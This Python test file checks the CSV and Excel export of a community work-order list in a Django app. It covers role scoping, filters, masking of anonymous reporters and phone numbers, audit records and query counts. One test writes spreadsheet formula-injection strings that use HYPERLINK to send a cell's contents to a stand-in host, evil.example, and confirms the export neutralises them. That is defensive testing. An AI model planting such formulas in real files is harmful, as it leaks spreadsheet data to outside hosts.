"""The work-order list's export (导出 CSV / 导出 Excel): the list's rows in the user's scope and filter,
in its order, masked as the screens mask them, formulas neutralised, audited, and read with a
constant number of queries whatever the number of rows."""

import pytest
from django.urls import reverse

from linli.accounts.models import RoleAssignment, User
from linli.cases import actions
from linli.cases.models import Case, Category
from linli.core.models import AuditLog
from linli.core.tests.export_helpers import csv_rows, xlsx_cells, xlsx_rows

CSV, XLSX = reverse("cases:list_csv"), reverse("cases:list_xlsx")
SECRET_NAME, SECRET_LOGIN = "顾建", "gujian"


def report(world, grid, description, **kw):
    return actions.report_case(
        actor=world.users.community,
        category=Category.objects.get(name="邻里纠纷"),
        grid=grid,
        description=description,
        channel=kw.pop("channel", "hotline"),
        **kw,
    )


@pytest.fixture
def cases(world):
    """Two requests in grid A (one a whisper by 顾建 of household A1), one in grid B, one in C2."""
    gu = User.objects.create_user(SECRET_LOGIN, display_name=f"居民·{SECRET_NAME}")
    RoleAssignment.objects.create(user=gu, role="resident", household=world.hh_a1)
    return {
        "a": report(world, world.grid_a, "楼道灯坏了", reporter_name="李先生", reporter_phone="13912345678"),
        "whisper": actions.report_case(
            actor=gu,
            category=Category.objects.get(name="邻里纠纷"),
            grid=world.grid_a,
            description="楼上半夜装修",
            channel="whisper",
            reporter=gu,
            reporter_household=world.hh_a1,
            reporter_name=SECRET_NAME,
            reporter_phone="13900009999",
            anonymous=True,
        ),
        "b": report(world, world.grid_b, "二号楼漏水"),
        "c": report(world, world.grid_c, "西湖小区停车"),
    }


def descriptions(rows):
    return [r[5] for r in rows[1:]]


@pytest.mark.django_db
def test_the_export_is_the_lists_rows_in_scope_and_in_its_order(world, login, cases):
    c = login(world.users.grid_a)
    rows = csv_rows(c.get(CSV))
    assert rows[0][0] == "编号" and len(rows[0]) == 12
    listed = [x.description for x in c.get(reverse("cases:list")).context["page_obj"]]
    assert descriptions(rows) == listed == ["楼上半夜装修", "楼道灯坏了"]  # grid B's and C2's absent
    assert [r[5] for r in xlsx_rows(c.get(XLSX))[1:]] == listed
    # another community's staff: none of community 1's requests
    other = login(world.users.other_community)
    assert descriptions(csv_rows(other.get(CSV))) == ["西湖小区停车"]
    assert [r[5] for r in xlsx_rows(other.get(XLSX))[1:]] == ["西湖小区停车"]


@pytest.mark.django_db
def test_the_export_honours_the_lists_filter(world, login, cases):
    c = login(world.users.community)
    assert descriptions(csv_rows(c.get(CSV, {"q": "漏水"}))) == ["二号楼漏水"]
    assert descriptions(csv_rows(c.get(CSV, {"grid": world.grid_b.pk}))) == ["二号楼漏水"]
    assert descriptions(csv_rows(c.get(CSV, {"grid": world.grid_c.pk}))) == []  # not theirs: nothing
    assert descriptions(csv_rows(c.get(CSV, {"channel": "whisper"}))) == ["楼上半夜装修"]
    # a filter the list refuses: back to the list, which shows why; nothing exported
    r = c.get(CSV, {"state": "nonsense"})
    assert r.status_code == 302 and r["Location"].startswith(reverse("cases:list") + "?state=nonsense")
    assert AuditLog.objects.filter(action="export").count() == 4  # the four exports above only


@pytest.mark.django_db
def test_an_anonymous_requests_reporter_never_appears_and_no_phone_is_exported(world, login, cases):
    for persona in ("grid_a", "community", "subdistrict", "admin"):
        c = login(getattr(world.users, persona))
        for response in (c.get(CSV), c.get(XLSX)):
            text = repr(csv_rows(response) if response["Content-Type"].startswith("text/csv") else xlsx_rows(response))
            assert SECRET_NAME not in text and SECRET_LOGIN not in text, persona
            assert "13900009999" not in text and "13912345678" not in text
            assert "1单元" not in text and "1号楼" not in text  # the reporter's house is no column
    rows = csv_rows(login(world.users.grid_a).get(CSV))
    assert {r[5]: r[11] for r in rows[1:]} == {"楼上半夜装修": "匿名", "楼道灯坏了": "李先生"}


@pytest.mark.django_db
def test_cells_that_read_as_formulas_are_neutralised_in_both_formats(world, login):
    from linli.core.xlsx import FORMULA_STARTS

    texts = [f'{start}HYPERLINK("http://evil.example/?"&A2)' for start in FORMULA_STARTS]
    for text in texts:
        report(world, world.grid_a, text)
    c = login(world.users.grid_a)
    written = descriptions(csv_rows(c.get(CSV)))
    assert sorted(written) == sorted("'" + t for t in texts)
    cells = {v: (t, q) for v, t, q in xlsx_cells(c.get(XLSX)) if isinstance(v, str)}
    for text in texts:  # (an XML reader reads a carriage return in the file as a line feed)
        assert cells[text.replace("\r", "\n")] == ("s", True), repr(text)


@pytest.mark.django_db
def test_each_export_is_audited_with_its_row_count_and_filter(world, login, cases):
    c = login(world.users.grid_a)
    csv_rows(c.get(CSV, {"q": "灯", "page": "2"}))
    xlsx_rows(c.get(XLSX))
    records = list(AuditLog.objects.filter(action="export").order_by("id"))
    assert [(r.actor, r.note, r.changes["rows"][1]) for r in records] == [
        (world.users.grid_a, "requests.csv", 1),
        (world.users.grid_a, "requests.xlsx", 2),
    ]
    assert records[0].changes["filter"][1] == "q=…"  # the search text itself is never recorded
    # the record belongs to the grid all the rows share, so its chief and the community see it
    assert (records[1].grid_id, records[1].community_id) == (world.grid_a.pk, world.c1.pk)
    assert records[0].content_type.model_class() is Case


@pytest.mark.django_db
def test_only_roles_that_may_export_the_list_get_it(world, login, cases):
    assert login(world.users.resident).get(CSV).status_code == 403
    assert login(world.users.building_head).get(XLSX).status_code == 403
    assert login(world.users.nobody).get(CSV).status_code == 403
    r = login(world.users.community).get(reverse("cases:list"), {"channel": "whisper"})
    assert f'href="{CSV}?channel=whisper"' in r.content.decode()
    assert f'href="{XLSX}?channel=whisper"' in r.content.decode()
    assert CSV not in login(world.users.resident).get(reverse("cases:list")).content.decode()
    # a handler exports the requests dispatched to its organisation only: none yet
    assert descriptions(csv_rows(login(world.users.department).get(CSV))) == []


@pytest.mark.django_db
def test_export_query_count_does_not_grow_with_rows(world, login, cases, django_assert_max_num_queries):
    c = login(world.users.community)
    csv_rows(c.get(CSV))
    with django_assert_max_num_queries(40) as small:
        assert len(csv_rows(c.get(CSV))) == 1 + 3
    for i in range(15):
        report(world, world.grid_a if i % 2 else world.grid_b, f"第{i}件", reporter_name=f"居民{i}")
    with django_assert_max_num_queries(len(small.captured_queries)):
        assert len(csv_rows(c.get(CSV))) == 1 + 3 + 15
    with django_assert_max_num_queries(len(small.captured_queries) + 1):  # + the count before an xlsx
        assert len(xlsx_rows(c.get(XLSX))) == 1 + 3 + 15
